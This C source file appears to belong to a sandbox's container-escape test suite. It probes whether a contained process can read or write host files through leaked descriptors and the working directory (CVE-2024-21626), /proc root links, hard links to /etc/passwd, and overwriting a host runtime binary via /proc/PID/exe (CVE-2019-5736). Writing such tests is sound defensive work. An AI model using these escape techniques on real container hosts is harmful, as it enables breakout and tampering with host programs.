/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Attacks on files and programs of the host's. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define ARRAY_LEN(array) (sizeof (array) / sizeof ((array)[0]))
#define UP               "../../../../../../../../../../../.."
#define FD_MAX           4096

/* CVE-2024-21626: a descriptor that whoever starts the container forgot. Any but the streams is one too many:
 * there is always some way up from it. Our own is the pipe that attack.c made, in place of standard output.
 */
void attack_descriptors (void)
{
  char path[PATH_MAX];
  int fd;

  for (fd = 3; fd < FD_MAX; fd++) {
    if (fcntl (fd, F_GETFD) < 0)
      continue;
    if (reads_secret (fd, "canary"))
      escaped ("descriptor %d leads to the host's file", fd);
    snprintf (path, sizeof (path), UP "%s", given ("canary"));
    if (reads_secret (fd, path))
      escaped ("the host's file is above descriptor %d", fd);
    escaped ("descriptor %d is open", fd);
  }
  errno = EBADF;
  held ("descriptors 3 to 4095");
}

/* The same CVE by its other half: the directory that the command starts in. */
void attack_working_directory (void)
{
  char path[PATH_MAX], cwd[PATH_MAX] = "";

  snprintf (path, sizeof (path), UP "%s", given ("canary"));
  if (reads_secret (AT_FDCWD, path) || reads_secret (AT_FDCWD, "canary"))
    escaped ("the host's file is above the working directory");
  if (getcwd (cwd, sizeof (cwd)) == NULL || cwd[0] != '/')
    escaped ("the working directory is outside of the root: '%s'", cwd);
  errno = ENOENT;
  held (path);
}

/* By its own name, and through other processes' roots. */
void attack_host_file (void)
{
  static const char *const roots[] = {
    "", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/self/task/1/root", "/.."
  };
  char path[PATH_MAX];
  size_t i;

  for (i = 0; i < ARRAY_LEN (roots); i++) {
    snprintf (path, sizeof (path), "%s%s", roots[i], given ("canary"));
    if (reads_secret (AT_FDCWD, path))
      escaped ("'%s' can be read", path);
  }
  held ("open");
}

/* Overwrites the end of a program, if the test's mark is there. Without one it is only told that it could be
 * done. */
static void overwrite (int fd, const char *path)
{
  const char *mark = given ("mark");
  size_t length = mark != NULL ? strlen (mark) : 0;
  char end[64];
  off_t at = lseek (fd, -(off_t) length, SEEK_END);

  if (length == 0 || length > sizeof (end) || at < 0)
    escaped ("'%s' can be opened for writing", path);
  if (pread (fd, end, length, at) != (ssize_t) length || memcmp (end, mark, length) != 0)
    escaped ("'%s' can be opened for writing, and was left alone", path);
  memset (end, '!', length);
  if (pwrite (fd, end, length, at) != (ssize_t) length)
    held ("pwrite");
  escaped ("'%s' was overwritten", path);
}

/* CVE-2019-5736: the program of a process that entered the container. It is busy while it runs: a descriptor
 * is kept until it is not. Our own program, which lies in the workspace, does not count. */
void attack_programs (void)
{
  struct timespec pause = { 0, 20 * 1000 * 1000 };
  struct stat own = { 0 }, st;
  char path[64], link[64];
  int tries, kept, fd;
  long pid;

  stat ("/proc/self/exe", &own);
  for (tries = 0; tries < 30; tries++, nanosleep (&pause, NULL))
    for (pid = 1; pid < 200; pid++) {
      snprintf (path, sizeof (path), "/proc/%ld/exe", pid);
      kept = open (path, O_PATH | O_CLOEXEC);
      if (kept < 0 || fstat (kept, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino)) {
        if (kept >= 0)
          close (kept);
        continue;
      }
      snprintf (link, sizeof (link), "/proc/self/fd/%d", kept);
      for (fd = open (link, O_RDWR | O_CLOEXEC); fd < 0 && errno == ETXTBSY && tries < 30; tries++) {
        nanosleep (&pause, NULL);
        fd = open (link, O_RDWR | O_CLOEXEC);
      }
      if (fd >= 0)
        overwrite (fd, path);
      close (kept);
    }
  held ("/proc/PID/exe");
}

/* Files of the host's that got a second name in the workspace: one that only root reads, one that only root
 * writes. And a new name for files of the root's. */
void attack_hard_links (void)
{
  static const char *const targets[] = { "/run/tyrum/init", "/bin/busybox", "/etc/passwd" };
  const char *path = "linked-open";
  int fd = open (path, O_WRONLY | O_CLOEXEC);
  size_t i;

  if (fd >= 0 && pwrite (fd, "escaped", 7, 0) == 7)
    escaped ("the host's file was written by another name");
  if (reads_secret (AT_FDCWD, "linked-secret"))
    escaped ("the host's file can be read by another name");
  if (chmod (path, 0666) == 0 || chown (path, getuid (), getgid ()) == 0)
    escaped ("the host's file has another mode or owner");
  for (i = 0; i < ARRAY_LEN (targets); i++)
    if (link (targets[i], "linked-new") == 0) {
      unlink ("linked-new");
      escaped ("'%s' got a name in the workspace", targets[i]);
    }
  held ("open, chmod, chown, link");
}
